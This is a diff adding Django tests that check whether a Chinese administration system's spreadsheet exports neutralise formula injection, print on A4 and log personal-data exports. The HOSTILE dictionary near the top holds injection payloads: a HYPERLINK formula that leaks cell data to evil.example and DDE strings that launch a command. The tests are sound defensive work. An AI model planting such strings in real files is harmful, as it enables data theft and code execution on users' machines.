@@ -1,0 +1,240 @@
+"""Every .xlsx the project serves goes through ``core.sheets``: found by walking the URL conf, each export
+route is fetched with hostile records in the demo data and must hold no formula cell (issue 10 §3), print
+on A4, and the personal-data exports are logged and watermarked (issue 10 §9). A sample of the files is
+opened by LibreOffice, as a user's office suite would open them."""
+
+from __future__ import annotations
+
+import io
+import re
+import shutil
+import subprocess
+
+import pytest
+from django.core.management import call_command
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.utils import timezone
+from openpyxl import Workbook, load_workbook
+
+from qizhi.campaigns.models import Rectification
+from qizhi.core import sheets
+from qizhi.core.models import ExportLog
+from qizhi.honors.models import Honor
+from qizhi.meetings.models import Meeting
+from qizhi.org.models import Person, Unit
+from qizhi.party.models import PartyOrg
+from qizhi.statistics.models import Indicator
+from qizhi.study.models import StudyPlan, WorkLog
+from qizhi.targets.models import Plan, Target
+
+pytestmark = pytest.mark.django_db
+
+EXPORT_ROUTE = re.compile(r"(^|_)export$|_import_template$")
+HOSTILE = {
+    "link": '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": '+HYPERLINK("http://evil.example")',
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def export_routes() -> list[str]:
+    """Every URL name of the project that serves an export or an import template."""
+    names = []
+
+    def walk(patterns, namespace=""):
+        for entry in patterns:
+            if isinstance(entry, URLResolver):
+                walk(entry.url_patterns, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
+            elif isinstance(entry, URLPattern) and entry.name and EXPORT_ROUTE.search(entry.name):
+                names.append(f"{namespace}{entry.name}")
+
+    walk(get_resolver().url_patterns)
+    return sorted(set(names))
+
+
+# What each route needs beyond the defaults its view chooses (a route missing here fails the test).
+def _arguments(demo: dict) -> dict[str, tuple[list, dict]]:
+    return {
+        "dues:duesbase_export": ([], {}),
+        "dues:duesbase_import_template": ([], {}),
+        "dues:duespayment_export": ([], {}),
+        "dues:ledger_export": ([], {"party_org": demo["meeting"].party_org_id, "month": "2026-11"}),
+        "meetings:compliance_export": ([], {"unit": demo["bureau"].pk}),
+        "meetings:meeting_attendance_export": ([demo["meeting"].pk], {}),
+        "org:person_export": ([], {}),
+        "org:person_import_template": ([], {}),
+        "party:membership_export": ([], {}),
+        "party:membership_import_template": ([], {}),
+        "statistics:rollup_export": ([], {}),
+        "statistics:statreport_export": ([], {}),
+        "statistics:statreport_import_template": ([], {}),
+        "study:studyplan_completion_export": ([demo["plan"].pk], {}),
+        "study:worklog_export": ([], {"month": f"{demo['log'].date:%Y-%m}"}),
+        "targets:plan_export": ([demo["targets"].pk], {}),
+        "targets:ranking_export": ([], {"year": demo["targets"].year}),
+        "targets:target_import_template": ([], {}),
+        "campaigns:rectification_export": ([], {}),
+        "campaigns:rectification_import_template": ([], {}),
+        "honors:honor_export": ([], {}),
+        "honors:honor_import_template": ([], {}),
+    }
+
+
+@pytest.fixture
+def demo(db):
+    """The demo organization, with formula-looking text wherever an export shows a name or a title."""
+    call_command("demo", stdout=io.StringIO())
+    bureau = Unit.objects.get(name="云溪县司法局")
+    meeting = Meeting.objects.filter(party_org__name="机关党支部", attendances__isnull=False).first()
+    person = meeting.attendances.first().person
+    Person.objects.filter(pk=person.pk).update(name=HOSTILE["link"], position=HOSTILE["dde"])
+    Unit.objects.filter(name="东乡司法所").update(name=HOSTILE["at"])
+    Unit.objects.filter(name="石桥县司法局").update(name=HOSTILE["minus"])  # ranked beside 云溪县
+    PartyOrg.objects.filter(pk=meeting.party_org_id).update(name=HOSTILE["plus"])
+    Meeting.objects.filter(pk=meeting.pk).update(topic=HOSTILE["dde"], place=HOSTILE["minus"])
+    plan = StudyPlan.objects.first()
+    StudyPlan.objects.filter(pk=plan.pk).update(title=HOSTILE["link"])
+    log = WorkLog.objects.first()
+    WorkLog.objects.filter(pk=log.pk).update(content=HOSTILE["dde"])
+    targets = Plan.objects.filter(unit=bureau).order_by("-year").first()
+    Plan.objects.filter(pk=targets.pk).update(title=HOSTILE["minus"])
+    first_target = Target.objects.filter(plan=targets).order_by("path").first()
+    Target.objects.filter(pk=first_target.pk).update(title=HOSTILE["link"])
+    first_indicator = Indicator.objects.filter(active=True).order_by("position").first()
+    Indicator.objects.filter(pk=first_indicator.pk).update(name=HOSTILE["plus"])  # the catalog is typed in too
+    Rectification.objects.update(target=HOSTILE["dde"], measure=HOSTILE["link"])
+    Honor.objects.update(title=HOSTILE["plus"])
+    return {"bureau": bureau, "meeting": meeting, "plan": plan, "log": log, "targets": targets}
+
+
+# Templates whose sheets carry no text of any record (no drop-down of names): nothing hostile can reach them.
+NO_RECORD_TEXT = {"dues:duesbase_import_template", "campaigns:rectification_import_template"}
+
+
+def cells(workbook):
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            yield from row
+
+
+def test_every_export_route_writes_hostile_text_as_text_on_a4(client, demo, tmp_path):
+    files = {}
+    routes = export_routes()
+    arguments = _arguments(demo)
+    assert set(routes) == set(arguments), "an export route without arguments here is not tested"
+    client.login(username="admin", password="qizhi-demo")
+    for name in routes:
+        args, params = arguments[name]
+        response = client.get(reverse(name, args=args), params)
+        assert response.status_code == 200, name
+        workbook = load_workbook(io.BytesIO(response.content))
+        formulas = [c.coordinate for c in cells(workbook) if c.data_type == "f"]
+        assert formulas == [], f"{name}: formula cells {formulas}"
+        hostile = [c for c in cells(workbook) if isinstance(c.value, str) and c.value in HOSTILE.values()]
+        assert hostile or name in NO_RECORD_TEXT, f"{name}: the hostile record did not reach the file"
+        assert all(c.data_type == "s" and c.quotePrefix for c in hostile), name
+        for sheet in workbook.worksheets:
+            assert int(sheet.page_setup.paperSize) == 9, f"{name}: {sheet.title}"  # 9 = A4
+        files[name] = response.content
+    # The 签到表 has room to sign, under its particulars.
+    sheet = load_workbook(io.BytesIO(files["meetings:meeting_attendance_export"])).active
+    assert [c.value for c in sheet[7]] == ["序号", "姓名", "单位", "出席情况", "签名", "备注"]
+    assert sheet.print_title_rows == "$7:$7"
+    if shutil.which("soffice"):
+        opened_by_libreoffice(tmp_path, files, ["org:person_export", "meetings:meeting_attendance_export"])
+
+
+def opened_by_libreoffice(folder, files: dict, names: list[str]) -> None:
+    """A sample of the files, converted to PDF by LibreOffice headless: A4 pages, the roster fitted to width."""
+    for number, name in enumerate(names):
+        (folder / f"{number}.xlsx").write_bytes(files[name])
+    pdfs = convert_to_pdf(folder, [f"{number}.xlsx" for number in range(len(names))])
+    for pdf in pdfs:
+        info = pdfinfo(pdf)
+        assert re.search(r"Page size:.*\(A4\)", info), info
+    # Fitted to the width: the first page holds the last column's heading (nothing cut off to the right).
+    for name, pdf in zip(names, pdfs, strict=True):
+        last_heading = [c.value for c in load_workbook(io.BytesIO(files[name])).active[heading_row(files[name])]][-1]
+        first_page = subprocess.run(
+            ["pdftotext", "-f", "1", "-l", "1", str(pdf), "-"], capture_output=True, text=True, check=True
+        ).stdout
+        assert last_heading in first_page, (name, last_heading)
+
+
+def heading_row(content: bytes) -> int:
+    """The row the print titles repeat: the column headings."""
+    titles = load_workbook(io.BytesIO(content)).active.print_title_rows
+    return int(titles.split(":")[0].lstrip("$"))
+
+
+def test_the_writer_turns_every_formula_into_text_even_one_written_around_it():
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet["A1"] = HOSTILE["dde"]  # written directly with openpyxl: a live formula
+    assert sheet["A1"].data_type == "f"
+    for column, text in enumerate(HOSTILE.values(), start=2):
+        sheets.put(sheet, 1, column, text)
+    sheets.put(sheet, 2, 1, "\tcmd")
+    sheets.put(sheet, 2, 2, "普通文字")
+    reread = load_workbook(io.BytesIO(sheets.to_bytes(workbook))).active
+    assert [c.data_type for c in reread[1]] == ["s"] * 6
+    assert reread["A1"].value == HOSTILE["dde"] and reread["A1"].quotePrefix
+    assert reread["A2"].quotePrefix and not reread["B2"].quotePrefix
+
+
+def test_values_keep_their_types(settings):
+    import datetime
+    from decimal import Decimal
+
+    form = sheets.new_report("表", "表", ["日期", "数", "身份证号码"], [12, 8, 20], unit="单位", text_columns=[3])
+    form.add_rows([(datetime.date(2026, 12, 3), Decimal("97.30"), 110101198503140019)])
+    sheet = load_workbook(io.BytesIO(form.to_bytes())).active
+    day, number, id_number = sheet[6]
+    assert day.value == datetime.datetime(2026, 12, 3) and day.number_format == 'yyyy"年"m"月"d"日"'
+    assert number.value == 97.3 and number.data_type == "n"
+    assert id_number.value == "110101198503140019" and id_number.number_format == "@"
+    assert sheet.print_title_rows == "$5:$5" and sheet.page_setup.fitToWidth == 1
+    assert sheet.page_setup.orientation == "portrait"
+
+
+def pdfinfo(pdf) -> str:
+    return subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
+
+
+def convert_to_pdf(folder, names: list[str]) -> list:
+    """LibreOffice headless, with a profile of its own (two conversions at once would share one)."""
+    profile = folder / "lo-profile"
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf",
+         "--outdir", str(folder), *[str(folder / n) for n in names]],
+        check=True, capture_output=True, timeout=180,
+    )  # fmt: skip
+    return [folder / (n.rsplit(".", 1)[0] + ".pdf") for n in names]
+
+
+def test_personal_data_exports_are_logged_and_carry_the_users_name(client, personas):
+    client.force_login(personas.a.leader)
+    response = client.get(reverse("org:person_export"), {"retired": "0"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    rows = [r for r in sheet.iter_rows(min_row=6, values_only=True) if r[0] is not None]
+    serving = Person.objects.filter(unit__path__startswith=personas.a.unit.path, retired=False).count()
+    assert len(rows) == serving > 0
+    log = ExportLog.objects.get()
+    assert (log.user, log.what, log.query, log.rows) == (personas.a.leader, "人员名册", "retired=0", serving)
+    now = timezone.localtime()  # the frozen clock (it ticks: the minute may have turned)
+    assert sheet["A4"].value.startswith(f"导出人：{personas.a.leader.username}　导出时间：{now:%Y年%m月%d日} ")
+    assert sheet.oddHeader.right.text == sheet["A4"].value
+    client.get(reverse("party:membership_export"))
+    assert list(ExportLog.objects.values_list("what", flat=True)) == ["党员花名册", "人员名册"]
+    assert client.get(reverse("core:export_log")).status_code == 403  # a leader is not an administrator
+    client.force_login(personas.root_admin)
+    html = client.get(reverse("core:export_log")).content.decode()
+    assert "人员名册" in html and "retired=0" in html
+
+
+def test_the_raw_reports_export_is_linked_from_the_reports_page(client, personas):
+    client.force_login(personas.a.leader)
+    html = client.get(reverse("statistics:statreport_list"), {"status": "approved"}).content.decode()
+    assert f'href="{reverse("statistics:statreport_export")}?status=approved"' in html
